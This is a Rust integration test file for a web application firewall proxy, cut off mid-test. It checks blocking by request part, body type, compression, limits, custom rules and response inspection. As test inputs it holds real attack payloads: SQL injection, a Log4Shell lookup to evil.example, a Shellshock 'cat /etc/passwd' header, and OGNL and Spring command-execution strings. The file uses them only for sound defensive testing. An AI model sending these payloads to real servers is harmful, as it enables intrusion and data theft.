// SPDX-License-Identifier: Apache-2.0
//! The WAF through real sockets: rules over heads, bodies and answers, and what comes of them (rows F02 to F06, F09).
//! The rules are the tests' own, so that none depends on what a rule set thinks.
#![allow(clippy::unwrap_used, reason = "a helper that fails fails the test that called it")]

use std::fs;

use bytes::Bytes;
use http::{Response, header};
use http_body_util::Full;
use serde_json::{Value, json};
use sunbeam_config::{ConfigFiles, load};
use sunbeam_encoding::{Coding, encode};
use sunbeam_proxy::Config;
use sunbeam_testkit::{
    TestClient, TestFolder, TestProxy, TestProxyBuilder, TestResponse, TestUpstream, raw_exchange,
};

use crate::judging::{layer, record, wait_for_metric};

pub(crate) const HOST: &str = "shop.example.test";
const ATTACK: &str = "1' UNION SELECT password FROM users-- -";
pub(crate) const FORM: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");
const JSON: (&str, &str) = ("content-type", "application/json");

/// Worth a threshold each: SQL, and a word that is as innocent as any.
const RULES: &str = r#"
SecRule ARGS|ARGS_NAMES|REQUEST_COOKIES|XML:/* "@rx (?i)union\s+select" \
    "id:1000001,phase:2,pass,log,t:none,t:urlDecodeUni,msg:'SQL in a value',severity:CRITICAL,tag:'attack-sqli',\
    setvar:'tx.blocking_inbound_anomaly_score=+5'"
SecRule ARGS "@contains walrus" \
    "id:1000002,phase:2,pass,log,t:none,msg:'A walrus',tag:'attack-xss',\
    setvar:'tx.blocking_inbound_anomaly_score=+5'"
SecRule ARGS "@contains herd of" \
    "id:1000003,phase:2,pass,log,t:none,msg:'A herd',tag:'attack-xss',\
    setvar:'tx.blocking_inbound_anomaly_score=+5'"
"#;

/// Nobody but the WAF judges.
const ALONE: &str = "scanner.enabled = false\nddos.enabled = false\nrate_limit.enabled = false\n";

pub(crate) fn builder(rules: &str) -> TestProxyBuilder {
    let builder = TestProxy::builder();
    builder.folder().write("rules/own.conf", rules);
    builder
}

pub(crate) fn text(builder: &TestProxyBuilder, backend: &TestUpstream, config: &str, route: &str) -> String {
    let rules = builder.folder().join("rules");
    format!(
        "waf.rules_dir = {rules:?}\nwaf.ruleset = \"none\"\n{ALONE}{config}\n[[routes]]\nhost_prefix = \"shop\"\nbackend = {:?}\n\
         disable_secure_redirection = true\n{route}\n",
        backend.url()
    )
}

pub(crate) fn start(rules: &str, backend: &TestUpstream, config: &str, route: &str) -> TestProxy {
    let builder = builder(rules);
    let text = text(&builder, backend, config, route);
    builder.config(&text).start()
}

pub(crate) fn post(proxy: &TestProxy, (name, value): (&str, &str), body: impl Into<Bytes>) -> TestResponse {
    proxy.client().method("POST").header(name, value).body(body).get(HOST, "/form")
}

fn multipart(value: &str) -> (&'static str, String) {
    let body = format!(
        "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{value}\r\n\
         --xyz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\
         Content-Type: text/plain\r\n\r\nhello\r\n--xyz--\r\n"
    );
    ("multipart/form-data; boundary=xyz", body)
}

/// The kinds of bodies, each with a value in it.
fn bodies(value: &str) -> Vec<(&'static str, String)> {
    let encoded = value.replace('\'', "%27").replace(' ', "+");
    vec![
        ("application/x-www-form-urlencoded", format!("a=b&q={encoded}")),
        ("application/json", json!({"a": [1, {"q": value}]}).to_string()),
        ("application/vnd.api+json", json!({"q": value}).to_string()),
        ("application/xml", format!("<a><b>{value}</b></a>")),
        multipart(value),
    ]
}

#[test]
fn an_attack_is_403_wherever_it_stands_and_the_backend_sees_nothing() {
    let backend = TestUpstream::echo();
    let proxy = start(RULES, &backend, "", "");
    let mut answers = Vec::new();
    let query = format!("/?q={}", ATTACK.replace('\'', "%27").replace(' ', "%20"));
    for client in [proxy.client(), proxy.client().http2()] {
        answers.push(client.get(HOST, &query));
    }
    for (kind, body) in bodies(ATTACK) {
        for client in [proxy.client(), proxy.client().http2()] {
            let client = client.method("POST").header("content-type", kind).body(body.clone());
            answers.push(client.get(HOST, "/form"));
        }
    }
    answers.push(proxy.client().header("cookie", &format!("theme={ATTACK}")).get(HOST, "/"));
    for (number, answer) in answers.iter().enumerate() {
        let record = record(&proxy, answer);
        assert_eq!((answer.status, layer(&record)), (403, ("block", "waf", "rules_and_model")), "{number}");
        assert_eq!((record.rules.as_slice(), record.backend.as_str()), (&[1_000_001][..], ""), "{number}");
        assert_eq!(record.scores.waf.map(|share| share.0), Some(500), "{number}");
        let page = answer.text();
        assert!(!page.contains("1000001") && !page.contains("SQL") && !page.contains("waf"), "{page}");
    }
    assert!(backend.seen().is_empty());
    let count = answers.len() as f64;
    let labels = [("decision", "block"), ("category", "sqli")];
    assert!((proxy.metric("sunbeam_waf_decisions_total", &labels) - count).abs() < 0.5);
    let blocked = proxy.metric("sunbeam_blocked_requests_total", &[("layer", "waf")]);
    assert!((blocked - count).abs() < 0.5);
    assert_eq!(proxy.metric("sunbeam_blocks_total", &[]), 0.0, "nobody is banned for it");
}

#[test]
fn innocent_bodies_arrive_as_they_were_sent() {
    let backend = TestUpstream::echo();
    let proxy = start(RULES, &backend, "", "");
    let large: String = (0..300_000).map(|number| format!("\"item {number:09}\",")).collect();
    let mut all = bodies("red shoes and a pair of 'socks'");
    all.push(("application/json", format!("[{}1]", large)));
    all.push(("application/octet-stream", large));
    all.push(("text/plain", String::new()));
    let mut all: Vec<(&str, Vec<u8>)> =
        all.into_iter().map(|(kind, body)| (kind, body.into_bytes())).collect();
    let noise: Vec<u8> = (0..50_000_u32).flat_map(|n| n.wrapping_mul(2_654_435_761).to_le_bytes()).collect();
    all.extend(["text/plain", "application/x-www-form-urlencoded"].map(|kind| (kind, noise.clone())));
    for (kind, body) in &all {
        for client in [proxy.client(), proxy.client().plain(), proxy.client().http2()] {
            let client = client.method("POST").header("content-type", kind).body(body.clone());
            let answer = client.get(HOST, "/form");
            assert_eq!(answer.status, 200, "{kind}: {:?}", record(&proxy, &answer));
            assert!(backend.last().body == body, "{kind}, {} bytes", body.len());
        }
    }
    // In chunks, slowly begun, with a trailer.
    let head = format!("POST /chunks HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n");
    let chunks = "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n1\r\n[\r\n3\r\n1,2\r\n1\r\n]\r\n0\r\nX-T: 1\r\n\r\n";
    assert!(raw_exchange(proxy.http(), format!("{head}{chunks}").as_bytes()).starts_with("HTTP/1.1 200"));
    let seen = backend.last();
    assert_eq!((&*seen.body, seen.header("transfer-encoding")), (&b"[1,2]"[..], Some("chunked")));
    // Whoever waits for it hears that the body may come.
    let expects = "Expect: 100-continue\r\nContent-Length: 5\r\nConnection: close\r\n\r\n[1,2]";
    let answer = raw_exchange(proxy.http(), format!("{head}{expects}").as_bytes());
    assert!(answer.contains("HTTP/1.1 200"), "{answer}");
    assert_eq!(backend.last().body, "[1,2]");
    assert_eq!(proxy.metric("sunbeam_waf_decisions_total", &[("decision", "block")]), 0.0);
}

#[test]
fn rules_and_model_decide_together_or_the_rules_alone() {
    let walrus = "animal=walrus";
    let two = "animal=a+herd+of+walrus";
    let attack = "q=1%27+UNION+SELECT+password+FROM+users--+-";
    let doubted = "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E";
    for (name, config, route, body, want) in [
        ("a word", "", "", walrus, (200, "observe", "rules")),
        ("a word, enforced", "waf.mode = \"enforce\"\n", "", walrus, (403, "block", "rules")),
        ("a word, enforced here", "", "protect = { waf = \"enforce\" }", walrus, (403, "block", "rules")),
        ("two words", "", "", two, (403, "block", "rules")),
        ("two words, watched", "", "protect = { waf = \"observe\" }", two, (200, "observe", "rules")),
        ("watched everywhere", "detection.mode = \"observe\"\n", "", two, (200, "observe", "rules")),
        ("an attack", "", "", attack, (403, "block", "rules_and_model")),
        ("an attack, off here", "", "protect = { waf = \"off\" }", attack, (200, "pass", "")),
        ("an attack, off", "waf.enabled = false\n", "", attack, (200, "pass", "")),
        ("the model alone", "", "", doubted, (403, "block", "model")),
        ("the rules' word alone", "waf.verdict = \"rules\"\n", "", doubted, (200, "pass", "")),
        ("a model without a say", "scanner.threshold = 1.0\n", "", doubted, (200, "pass", "")),
        ("a lower threshold", "waf.inbound_threshold = 2\n", "", walrus, (403, "block", "rules")),
        ("a higher threshold", "waf.inbound_threshold = 6\n", "", walrus, (200, "pass", "")),
        ("innocent", "", "", "animal=cat", (200, "pass", "")),
    ] {
        let backend = TestUpstream::echo();
        let proxy = start(RULES, &backend, config, route);
        let answer = post(&proxy, FORM, body);
        let record = record(&proxy, &answer);
        let found = (answer.status, record.decision.as_str(), record.reason.as_str());
        assert_eq!(found, want, "{name}: {record:?}");
        assert_eq!(backend.seen().len(), usize::from(want.0 == 200), "{name}");
    }
}

#[test]
fn what_an_operator_s_own_rule_says_is_done() {
    let rules = r#"
SecRule REQUEST_URI "@beginsWith /teapot" "id:1000101,phase:1,deny,status:418,log,t:none,msg:'no'"
SecRule REQUEST_URI "@beginsWith /moved" "id:1000102,phase:1,redirect:https://other.example/,log,t:none,msg:'no'"
SecRule REQUEST_URI "@beginsWith /dropped" "id:1000103,phase:1,drop,log,t:none,msg:'no'"
SecRule REQUEST_HEADERS_NAMES "@streq X_Odd-Name" "id:1000104,phase:1,deny,log,t:none,msg:'no'"
SecRule REQUEST_URI_RAW "@contains <" "id:1000105,phase:1,deny,log,t:none,msg:'no'"
SecRule REQUEST_PROTOCOL "@streq HTTP/2.0" "id:1000106,phase:1,deny,log,t:none,msg:'no',chain"
SecRule REQUEST_HEADERS:Host "@streq shop.example.test" "t:none"
SecRule REQUEST_LINE "@streq GET /line?a=%3c HTTP/1.1" "id:1000107,phase:1,deny,log,t:none,msg:'no'"
SecRule REMOTE_ADDR "@ipMatch 192.0.2.0/24" "id:1000108,phase:1,deny,log,t:none,msg:'no'"
"#;
    let backend = TestUpstream::echo();
    let proxy = start(rules, &backend, "listen.trusted_proxies = [\"127.0.0.1/32\"]\n", "websocket = true");
    let of = |answer: &TestResponse| (answer.status, record(&proxy, answer).rules);
    assert_eq!(of(&proxy.client().get(HOST, "/teapot")), (418, vec![1_000_101]));
    let moved = proxy.client().get(HOST, "/moved");
    assert_eq!(
        (of(&moved), moved.header("location")),
        ((302, vec![1_000_102]), Some("https://other.example/"))
    );
    let dropped = proxy.client().get(HOST, "/dropped");
    assert_eq!((of(&dropped), dropped.header("connection")), ((403, vec![1_000_103]), Some("close")));
    assert_eq!(of(&proxy.client().http2().get(HOST, "/")), (403, vec![1_000_106]));
    let from = |address: &str| proxy.client().header("x-forwarded-for", address).get(HOST, "/");
    assert_eq!(of(&from("192.0.2.7")), (403, vec![1_000_108]));
    assert_eq!(from("198.51.100.7").status, 200);
    let raw = |target: &str, lines: &str| {
        let request = format!("GET {target} HTTP/1.1\r\nHost: {HOST}\r\n{lines}Connection: close\r\n\r\n");
        raw_exchange(proxy.http(), request.as_bytes())
    };
    for (name, target, lines, status) in [
        ("a name as it was sent", "/", "X_Odd-Name: 1\r\n", "403"),
        ("another case of it", "/", "x_odd-name: 1\r\n", "200"),
        ("a target as it was sent", "/a<b", "", "403"),
        ("the same, encoded", "/a%3cb", "", "200"),
        ("a line", "/line?a=%3c", "", "403"),
    ] {
        let answer = raw(target, lines);
        assert!(answer.starts_with(&format!("HTTP/1.1 {status} ")), "{name}: {answer}");
    }
    let upgrade =
        "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
    let upgrade = raw("/teapot", &format!("{upgrade}Connection: upgrade\r\n"));
    assert!(upgrade.starts_with("HTTP/1.1 418 "), "{upgrade}");
    let reasons = proxy.audit().records().into_iter().filter(|record| record.status == 418);
    assert!(reasons.map(|record| record.reason).all(|reason| reason == "rule"));
}

#[test]
fn behind_padding_the_configuration_decides() {
    let padded = |at: usize| {
        let padding = "x".repeat(at);
        json!({"a": padding, "q": ATTACK}).to_string()
    };
    let backend = TestUpstream::echo();
    let prefix = start(RULES, &backend, "", "");
    assert_eq!(post(&prefix, JSON, padded(100_000)).status, 403);
    let answer = post(&prefix, JSON, padded(200_000));
    let padding = record(&prefix, &answer);
    assert_eq!((answer.status, padding.decision.as_str()), (200, "observe"), "{padding:?}");
    assert_eq!((padding.reason.as_str(), padding.rules.len()), ("oversized_body", 0));
    let packed = encode(Coding::Gzip, padded(200_000).as_bytes());
    let client = prefix.client().method("POST").header(JSON.0, JSON.1).header("content-encoding", "gzip");
    let answer = client.body(packed).get(HOST, "/form");
    assert_eq!((answer.status, record(&prefix, &answer).reason.as_str()), (200, "oversized_body"));
    // A word that is doubtful where all was seen is not where it was not.
    let walrus = |length| json!({"a": "walrus", "b": "x".repeat(length)}).to_string();
    assert_eq!([100, 200_000].map(|length| post(&prefix, JSON, walrus(length)).status), [200, 403]);
    let hits = |proxy: &TestProxy| {
        proxy.metric("sunbeam_limit_hits_total", &[("limit", "max_inspected_body_bytes")])
    };
    assert_eq!(hits(&prefix), 3.0);
    let asked = backend.seen().len();
    let block = start(RULES, &backend, "waf.on_oversized_body = \"block\"\n", "");
    let answer = post(&block, JSON, padded(200_000));
    assert_eq!((answer.status, layer(&record(&block, &answer))), (413, ("block", "waf", "body_too_large")));
    assert_eq!((hits(&block), backend.seen().len()), (1.0, asked));
    // What nobody looks at may be as long as it likes.
    assert_eq!(post(&block, ("content-type", "image/png"), vec![0; 200_000]).status, 200);
    let larger = "waf.max_inspected_body_bytes = 300000\nwaf.on_oversized_body = \"block\"\n";
    let larger = start(RULES, &backend, larger, "");
    assert_eq!(post(&larger, JSON, padded(200_000)).status, 403);
    assert_eq!(post(&larger, JSON, json!({"a": "x".repeat(200_000)}).to_string()).status, 200);
}

#[test]
fn compressed_bodies_are_looked_at_and_pass_as_they_came() {
    let backend = TestUpstream::echo();
    let proxy = start(RULES, &backend, "", "");
    let send = |coding: &str, body: Vec<u8>| {
        let client = proxy.client().method("POST").header(JSON.0, JSON.1).header("content-encoding", coding);
        client.body(body).get(HOST, "/form")
    };
    let (attack, innocent) = (json!({"q": ATTACK}).to_string(), json!({"q": "red shoes"}).to_string());
    for coding in [Coding::Gzip, Coding::Deflate, Coding::Brotli, Coding::Zstd] {
        let name = coding.as_str();
        assert_eq!(send(name, encode(coding, attack.as_bytes())).status, 403, "{name}");
        let packed = encode(coding, innocent.as_bytes());
        assert_eq!(send(name, packed.clone()).status, 200, "{name}");
        assert_eq!(
            (&*backend.last().body, backend.last().header("content-encoding")),
            (&*packed, Some(name))
        );
        // Unpacked it is a thousand times as long as what is looked at.
        let mut bomb = b"[\"".to_vec();
        bomb.resize(128 << 20, b'x');
        assert_eq!(send(name, encode(coding, &bomb)).status, 200, "{name}");
    }
    for (name, coding, body) in [
        ("no gzip", "gzip", innocent.clone().into_bytes()),
        ("a coding that nobody knows", "snappy", innocent.clone().into_bytes()),
        ("two codings", "gzip, gzip", encode(Coding::Gzip, &encode(Coding::Gzip, attack.as_bytes()))),
        ("cut", "gzip", encode(Coding::Gzip, innocent.as_bytes())[..20].to_vec()),
    ] {
        let answer = send(coding, body);
        let record = record(&proxy, &answer);
        assert_eq!((answer.status, record.reason.as_str()), (400, "undecodable_body"), "{name}");
    }
}

#[test]
fn bounds_of_bodies_hold_while_they_are_looked_at() {
    let backend = TestUpstream::echo();
    let config = "waf.max_inspected_body_bytes = 4000000\n[limits]\nmax_body_bytes = 1000000\n";
    let proxy = start(RULES, &backend, config, "");
    let chunk = format!("{:x}\r\n{}\r\n", 100_000, "1,".repeat(50_000));
    let head = format!(
        "POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    let answer = raw_exchange(proxy.http(), format!("{head}{}0\r\n\r\n", chunk.repeat(20)).as_bytes());
    assert!(answer.starts_with("HTTP/1.1 413 "), "{answer}");
    let broken = raw_exchange(proxy.http(), format!("{head}5\r\nabc").as_bytes());
    assert!(broken.is_empty() || broken.starts_with("HTTP/1.1 4"), "{broken}");
    let odd = raw_exchange(proxy.http(), format!("{head}xyz\r\nabc\r\n").as_bytes());
    assert!(odd.starts_with("HTTP/1.1 400 "), "{odd}");
    assert!(backend.seen().is_empty());
}

#[test]
fn too_many_parameters_are_400_whatever_they_are_and_whoever_decides() {
    let kinds = |count: usize| {
        let parts = (0..count).map(|number| {
            format!("--xyz\r\nContent-Disposition: form-data; name=\"a{number}\"\r\n\r\n1\r\n")
        });
        [
            (FORM.1, (0..count).map(|number| format!("a{number}=1&")).collect::<String>()),
            (JSON.1, json!(vec![1; count]).to_string()),
            ("multipart/form-data; boundary=xyz", parts.collect::<String>() + "--xyz--\r\n"),
        ]
    };
    let backend = TestUpstream::echo();
    // What a build for tests takes, a node does not.
    let roomy = "waf.max_inspected_body_bytes = 4000000\nwaf.regex_budget_ms = 60000\n";
    for config in ["waf.verdict = \"combined\"\n", "waf.verdict = \"rules\"\n"] {
        let proxy = start(RULES, &backend, &format!("{roomy}{config}"), "");
        for (kind, body) in kinds(1_001) {
            assert_eq!(post(&proxy, ("content-type", kind), body).status, 200, "{kind}, {config}");
        }
        for (kind, body) in kinds(10_001) {
            let answer = post(&proxy, ("content-type", kind), body);
            let record = record(&proxy, &answer);
            let found = (answer.status, layer(&record));
            assert_eq!(found, (400, ("block", "waf", "too_many_parameters")), "{kind}, {config}");
        }
        assert_eq!(proxy.metric("sunbeam_limit_hits_total", &[("limit", "max_parameters")]), 3.0);
        let fewer = start(RULES, &backend, &format!("waf.max_parameters = 1000\n{roomy}{config}"), "");
        let answer = post(&fewer, FORM, format!("{}q=walrus", "a=1&".repeat(1_000)));
        assert_eq!(answer.status, 400, "{config}");
    }
}

/// Of the project's own rules, or of others, in front of that backend.
fn own(backend: &TestUpstream, config: &str) -> TestProxy {
    let text = format!(
        "{ALONE}{config}\n[[routes]]\nhost_prefix = \"shop\"\nbackend = {:?}\ndisable_secure_redirection = true\n",
        backend.url()
    );
    TestProxy::builder().config(&text).start()
}

#[test]
fn attacks_that_the_model_does_not_read_are_certain() {
    let backend = TestUpstream::echo();
    let jndi = "${jndi:ldap://evil.example/a}";
    let shell = "() { :; }; /bin/bash -c 'cat /etc/passwd'";
    let ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).\
                (#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}";
    let spring = "T(java.lang.Runtime).getRuntime().exec(\"id\")";
    let upload = |name: &str| {
        format!(
            "--xyz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\
             Content-Type: text/plain\r\n\r\nhello\r\n--xyz--\r\n"
        )
    };
    let form = "multipart/form-data; boundary=xyz";
    let mut proxies = vec![("our own", own(&backend, ""))];
    if let Some(shared) = std::env::var_os("SUNBEAM_SHARED") {
        let rules = std::path::Path::new(&shared).join("conformance/crs-4.28.0");
        proxies.push(("CRS", own(&backend, &format!("waf.ruleset = \"crs\"\nwaf.crs_path = {rules:?}\n"))));
    }
    for (rules, proxy) in proxies {
        for (name, value) in [
            ("x-api-version", jndi),
            ("user-agent", jndi),
            ("referer", jndi),
            ("authorization", jndi),
            ("user-agent", shell),
            ("spring.cloud.function.routing-expression", spring),
        ] {
            let client = proxy.client().header(name, value);
            let answer = client.get(HOST, "/");
            assert_eq!(answer.status, 403, "{rules}, {name}: {:?}", record(&proxy, &answer));
        }
        let answer = post(&proxy, ("content-type", ognl), "a=b");
        assert_eq!(answer.status, 403, "{rules}: {:?}", record(&proxy, &answer));
        let answer = post(&proxy, ("content-type", form), upload("shell.php"));
        assert_eq!(answer.status, 403, "{rules}: {:?}", record(&proxy, &answer));
        let answer = post(&proxy, ("content-type", form), upload("holiday.jpg"));
        assert_eq!(answer.status, 200, "{rules}: {:?}", record(&proxy, &answer));
        // That there is no `Referer` is nothing that stands in it.
        let answer = post(&proxy, FORM, "beacon=1&session-id=b2c469bce740574bb5c4a934e55c37aa");
        assert_eq!(answer.status, 200, "{rules}: {:?}", record(&proxy, &answer));
    }
}

#[test]
fn a_word_behind_the_type_hides_no_body() {
    let backend = TestUpstream::echo();
    let proxy = start(RULES, &backend, "", "");
    let (_, parts) = multipart(ATTACK);
    for (kind, body, status) in [
        ("application/x-www-form-urlencoded x", "q=1'+UNION+SELECT+password+FROM+users--+-".to_owned(), 403),
        ("application/json foo", json!({"q": ATTACK}).to_string(), 403),
        // Where it is not certain what a backend takes for the boundary.
        ("multipart/form-data boundary=xyz", parts.clone(), 400),
        ("multipart/form-data; x boundary=xyz", parts, 400),
    ] {
        let answer = post(&proxy, ("content-type", kind), body);
        let is_stopped = [status, 403].contains(&answer.status);
        assert!(is_stopped, "{kind}: {} {:?}", answer.status, record(&proxy, &answer));
    }
    // What nobody has read is not clean, however innocent the rest is.
    let walrus = |kind: &str| {
        let client = proxy.client().method("POST").header("content-type", kind).body("a=b");
        client.get(HOST, "/form?animal=walrus").status
    };
    assert_eq!(["application/x-unheard-of", "image/png", "text/plain"].map(walrus), [403, 200, 200]);
}

#[test]
fn ordinary_bodies_are_read_as_any_server_reads_them() {
    let backend = TestUpstream::echo();
    let proxy = start(RULES, &backend, "", "");
    for value in ["a walk in the park", ATTACK] {
        let (_, parts) = multipart(value);
        let document = format!("\u{feff}{}", json!({"q": value}));
        for (kind, body) in [
            ("multipart/form-data; boundary=\"xyz\"", &parts),
            ("multipart/form-data; charset=utf-8; boundary=xyz", &parts),
            ("multipart/form-data; boundary=xyz; charset=utf-8", &parts),
            ("application/json", &document),
        ] {
            let answer = post(&proxy, ("content-type", kind), body.clone());
            let record = record(&proxy, &answer);
            let want = if value == ATTACK { (403, "block") } else { (200, "pass") };
            assert_eq!((answer.status, record.decision.as_str()), want, "{kind}: {record:?}");
        }
    }
}

#[test]
fn rules_that_only_look_on_stop_nothing() {
    let backend = TestUpstream::echo();
    let attack = "q=1%27+UNION+SELECT+password+FROM+users--+-";
    for verdict in ["combined", "rules"] {
        let config = format!("waf.verdict = {verdict:?}\nwaf.mode = \"enforce\"\n");
        let watched = start(&format!("SecRuleEngine DetectionOnly\n{RULES}"), &backend, &config, "");
        let answer = post(&watched, FORM, attack);
        let found = record(&watched, &answer);
        assert_eq!((answer.status, found.rules.as_slice()), (200, &[1_000_001][..]), "{verdict}");
        assert_ne!(found.decision, "block", "{verdict}");
        let off = start(&format!("SecRuleEngine Off\n{RULES}"), &backend, &config, "");
        let answer = post(&off, FORM, attack);
        let found = record(&off, &answer);
        assert_eq!(
            (answer.status, found.decision.as_str(), found.rules.len()),
            (200, "pass", 0),
            "{verdict}"
        );
    }
}

#[test]
fn files_are_behind_it_too() {
    let backend = TestUpstream::echo();
    let builder = builder(RULES);
    builder.folder().write("site/index.html", "<p>hello</p>");
    let root = builder.folder().join("site");
    let text = text(&builder, &backend, "", &format!("static_root = {root:?}"));
    let proxy = builder.config(&text).start();
    assert_eq!(proxy.client().get(HOST, "/index.html").text(), "<p>hello</p>");
    let attack = proxy.client().get(HOST, "/index.html?q=1%27%20UNION%20SELECT%20password%20FROM%20users--");
    assert_eq!((attack.status, layer(&record(&proxy, &attack)).1), (403, "waf"));
}

#[test]
fn answers_are_looked_at_where_somebody_wants_that() {
    let rules = r#"
SecRule RESPONSE_STATUS "@streq 503" "id:1000201,phase:3,deny,log,t:none,msg:'down',tag:'attack-disclosure'"
SecRule RESPONSE_BODY "@contains root:x:0:0" \
    "id:1000202,phase:4,deny,log,t:none,msg:'a leak',tag:'attack-disclosure'"
"#;
    let leak = "root:x:0:0:root:/root:/bin/bash\n";
    let backend = TestUpstream::with(move |seen| {
        let (kind, body) = match seen.target.as_str() {
            "/leak" => ("text/plain", leak.to_owned().into_bytes()),
            "/packed" => ("text/plain", encode(Coding::Gzip, leak.as_bytes())),
            "/deep" => ("text/plain", format!("{}{leak}", "x".repeat(600_000)).into_bytes()),
            "/image" => ("image/png", leak.to_owned().into_bytes()),
            "/long" => ("text/plain", "y".repeat(3_000_000).into_bytes()),
            _ => ("text/html", b"hello".to_vec()),
        };
        let mut response = Response::new(Full::from(body));
        response.headers_mut().insert(header::CONTENT_TYPE, kind.parse().unwrap());
        if seen.target == "/packed" {
            response.headers_mut().insert(header::CONTENT_ENCODING, "gzip".parse().unwrap());
        }
        if seen.target == "/down" {
            *response.status_mut() = http::StatusCode::SERVICE_UNAVAILABLE;
        }
        response
    });
    let proxy = start(rules, &backend, "waf.inspect_responses = true\n", "");
    for (path, status) in
        [("/", 200), ("/leak", 403), ("/packed", 403), ("/down", 403), ("/deep", 200), ("/image", 200)]
    {
        for client in [proxy.client(), proxy.client().http2()] {
            let answer = client.get(HOST, path);
            let record = record(&proxy, &answer);
            assert_eq!(answer.status, status, "{path}: {record:?}");
            if status == 403 {
                assert_eq!(layer(&record), ("block", "waf", "answer_rule"), "{path}");
                assert!(!answer.text().contains("root:") && !answer.text().contains("leak"));
            }
        }
    }
    for client in [proxy.client(), proxy.client().http2()] {
        let long = client.get(HOST, "/long");
        assert!(long.body.len() == 3_000_000 && long.body.iter().all(|byte| *byte == b'y'));
    }
    let labels = [("decision", "block"), ("category", "disclosure")];
    assert_eq!(proxy.metric("sunbeam_waf_decisions_total", &labels), 6.0);
    assert_eq!(proxy.metric("sunbeam_waf_decisions_total", &[]), 14.0, "once a request");
    let silent = start(rules, &backend, "", "");
    assert_eq!(silent.client().get(HOST, "/leak").status, 200);
}

#[test]
fn rules_are_replaced_whole_or_not_at_all() {
    let backend = TestUpstream::echo();
    let builder = builder(RULES);
    let config = text(&builder, &backend, "", "");
    let proxy = builder.config(&config).start();
    let walruses = |proxy: &TestProxy| post(proxy, FORM, "animal=a+herd+of+walrus").status;
    assert_eq!(walruses(&proxy), 403);
    let file = proxy.folder().join("rules/own.conf");
    fs::write(&file, "\n\nSecRule ARGS \"@nonsense x\" \"id:1,phase:2,pass\"\n").unwrap();
    let refused = proxy.reload(&config).unwrap_err().to_string();
    let place = format!("{}:3: ", file.display());
    assert!(refused.contains(&place) && refused.contains("`waf.rules_dir`"), "{refused}");
    assert_eq!(walruses(&proxy), 403, "the running rules stay");
    assert_eq!(proxy.metric("sunbeam_config_reload_failed", &[]), 1.0);
    fs::write(&file, "SecRule ARGS \"@contains cat\" \"id:1000301,phase:2,deny,log,t:none,msg:'no cats'\"\n")
        .unwrap();
    let report = proxy.reload(&config).unwrap().to_string();
    assert!(report.starts_with("rules reloaded (") && report.ends_with(" rules)"), "{report}");
    assert_eq!(proxy.reload(&config).unwrap().to_string(), "nothing changed");
    assert_eq!((walruses(&proxy), post(&proxy, FORM, "animal=cat").status), (200, 403));
    assert_eq!(proxy.metric("sunbeam_config_reload_failed", &[]), 0.0);
    // Over the API the same.
    let off = config.replacen("waf.rules_dir", "waf.mode = \"off\"\n# waf.rules_dir", 1);
    proxy.reload(&off).unwrap();
    assert_eq!(post(&proxy, FORM, "animal=cat").status, 200);
}

/// Behind a proxy, so that a test can be several clients.
const BEHIND: &str = "listen.trusted_proxies = [\"127.0.0.0/8\"]\n";

#[test]
fn rules_remember_who_comes_again_over_threads_and_reloads() {
    let tries = |status: u16| {
        format!(
            "SecAction \"id:1000401,phase:1,pass,nolog,initcol:ip=%{{REMOTE_ADDR}}\"\n\
             SecRule REQUEST_FILENAME \"@streq /login\" \"id:1000402,phase:1,pass,nolog,\
             setvar:ip.tries=+1,expirevar:ip.tries=3600\"\n\
             SecRule IP:tries \"@gt 3\" \"id:1000403,phase:1,deny,status:{status},log,msg:'%{{ip.tries}} tries'\"\n"
        )
    };
    let backend = TestUpstream::echo();
    let builder = builder(&tries(429));
    let config = text(&builder, &backend, BEHIND, "");
    let proxy = builder.config(&config).start();
    let ask = |client: &str, path: &str| proxy.client().header("x-forwarded-for", client).get(HOST, path);
    // Each on a connection of its own, which any thread may have.
    let login: Vec<u16> = (0..5).map(|_| ask("198.51.100.7", "/login").status).collect();
    assert_eq!(login, [200, 200, 200, 429, 429]);
    assert_eq!(ask("198.51.100.7", "/").status, 429);
    assert_eq!(ask("198.51.100.8", "/login").status, 200, "a neighbour");
    fs::write(proxy.folder().join("rules/own.conf"), tries(403)).unwrap();
    proxy.reload(&config).unwrap();
    let after = ask("198.51.100.7", "/login");
    assert_eq!((after.status, record(&proxy, &after).rules), (403, vec![1_000_403]));
    assert_eq!(ask("198.51.100.8", "/login").status, 200);
    assert_eq!(proxy.metric("sunbeam_limit_hits_total", &[("limit", "waf_collections")]), 0.0);
}

#[test]
fn what_rules_cannot_do_is_told_at_a_reload_with_its_place() {
    let backend = TestUpstream::echo();
    let builder = builder("");
    let config = text(&builder, &backend, "", "");
    let proxy = builder.config(&config).start();
    let file = proxy.folder().join("rules/own.conf");
    let rules = "\nSecRequestBodyLimitAction Reject\n\
                 SecRule REMOTE_ADDR \"@rbl list.example\" \"id:1,phase:1,deny\"\n";
    fs::write(&file, rules).unwrap();
    let warnings = proxy.reload(&config).unwrap().warnings;
    let told: Vec<String> = warnings.iter().map(ToString::to_string).collect();
    for (line, says) in [(2, "`waf.on_oversized_body`"), (3, "`@rbl` holds for no value here")] {
        let place = format!("{}:{line}: ", file.display());
        let is_told = |text: &String| text.contains(&place) && text.contains(says);
        assert!(told.iter().any(is_told), "{place}: {told:?}");
        assert!(told.iter().all(|text| text.contains("warning: `waf.rules_dir`: ")), "{told:?}");
    }
}

#[test]
fn rules_are_added_and_taken_away_while_the_node_runs() {
    let backend = TestUpstream::echo();
    let builder = builder(RULES);
    let config = text(&builder, &backend, "", "");
    let proxy = builder.config(&config).start();
    let status = |proxy: &TestProxy| post(proxy, FORM, "animal=cat").status;
    let add = |proxy: &TestProxy, rules: &str| {
        proxy.api("POST", "/api/v1/rules", &json!({"name": "cats", "rules": rules}).to_string())
    };
